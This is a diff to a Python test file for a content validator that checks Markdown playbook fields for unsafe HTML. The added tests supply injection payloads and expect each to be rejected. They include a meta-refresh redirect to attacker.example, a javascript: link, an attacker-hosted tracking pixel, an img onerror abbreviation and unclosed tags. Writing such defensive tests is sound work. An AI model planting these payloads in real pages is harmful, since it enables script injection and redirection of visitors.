@@ -13,6 +13,7 @@ from pathlib import Path
 import pytest
 
 from cx_playbook.errors import ContentError
+from cx_playbook.markup import DEFAULT_EXTENSIONS, MarkdownRules, judge_markdown
 from cx_playbook.validation import load_playbook
 from helpers import QUIZ, edit
 
@@ -27,11 +28,11 @@ def problems(root: Path, quizzes: Path | None = None, docs: Path | None = None) 
     return [str(problem) for problem in caught.value.problems]
 
 
-def with_body(playbook: Path, markdown: str) -> list[str]:
+def with_body(playbook: Path, markdown: str, quizzes: Path | None = None) -> list[str]:
     """Problems after ``markdown`` (a YAML double-quoted string's content) is put in the body."""
     edit(playbook / PRINCIPLE, "body: |\n  The customer, not the organisation, decides what counts.\n\n  See [[techniques/moments-of-truth]] for how to act on it.\n",
          f'body: "{markdown}"\n')
-    return problems(playbook)
+    return problems(playbook, quizzes)
 
 
 # --- The Markdown is judged by the HTML it becomes --------------------------------------------
@@ -66,6 +67,51 @@ def test_markdown_that_becomes_unsafe_html_is_refused_at_its_field(playbook_dir,
     assert problem.startswith(f"playbook/{PRINCIPLE}:")
     assert ": body: " in problem
     assert any(word in problem for word in ("is rejected", "not allowed", "never closed")), problem
+
+
+# --- A field is one piece of a page: nothing it leaves open or defines may reach the rest ------
+
+PAGE_PIECES = {
+    "a tag left open for the next field to finish": 'A meeting <meta http-equiv=\\"refresh\\" content=\\"0;url=https://attacker.example/?',
+    "a block tag left open across the page": '<div title=\\"',
+    "a comment left open": "Text <!-- the rest of the page",
+    "a reference definition for another field's link": "Text.\\n\\n[evil]: javascript:alert(1)",
+    "a reference definition for another field's image": "Text.\\n\\n[pixel]: //attacker.example/pixel.png",
+    "an abbreviation definition for the whole page": "Text.\\n\\n*[MOT]: &lt;img src=x onerror=alert(1)&gt;",
+}
+
+
+@pytest.mark.parametrize("markdown", PAGE_PIECES.values(), ids=PAGE_PIECES.keys())
+def test_what_a_field_leaves_open_or_defines_for_the_page_is_refused(playbook_dir, markdown):
+    [problem] = with_body(playbook_dir, markdown)
+    assert problem.startswith(f"playbook/{PRINCIPLE}:") and ": body: " in problem
+    assert "not allowed" in problem, problem
+
+
+def test_a_footnote_defined_in_a_field_is_refused_where_the_site_has_footnotes():
+    rules = MarkdownRules([*DEFAULT_EXTENSIONS, "footnotes"])
+    found = judge_markdown("Text.\n\n[^1]: <b>bold</b>", rules)
+    assert found is not None and found.rule == "page_wide_definition" and found.line == 3
+    assert judge_markdown("Text with a note.[^1]\n\n[^1]: The note.", rules) is not None
+
+
+EMBEDS_OUT_OF_PLACE = {
+    "inside an attribute": r"<details title='\n{{ quiz(\"moments-check\") }}\n'><summary>s</summary></details>",
+    "inside a sentence": r"See {{ quiz(\"moments-check\") }} for a check.",
+}
+
+
+@pytest.mark.parametrize("markdown", EMBEDS_OUT_OF_PLACE.values(), ids=EMBEDS_OUT_OF_PLACE.keys())
+def test_a_quiz_embed_stands_on_a_line_of_its_own(quizzes_dir, markdown):
+    """The quiz's own markup, with its answer key, would break out of an attribute it landed in."""
+    [problem] = with_body(quizzes_dir.parent / "playbook", markdown, quizzes_dir)
+    assert problem.startswith(f"playbook/{PRINCIPLE}:") and 'body: a {{ quiz("…") }} embed must stand on a line of its own' in problem
+
+
+def test_a_quiz_embed_on_a_line_of_its_own_is_accepted(quizzes_dir):
+    playbook = quizzes_dir.parent / "playbook"
+    edit(playbook / PRINCIPLE, "  See [[", '  {{ quiz("moments-check") }}\n\n  See [[')
+    assert load_playbook(playbook, quizzes_dir).entries
 
 
 # --- Attributes that Material's tooltips would turn into markup -------------------------------
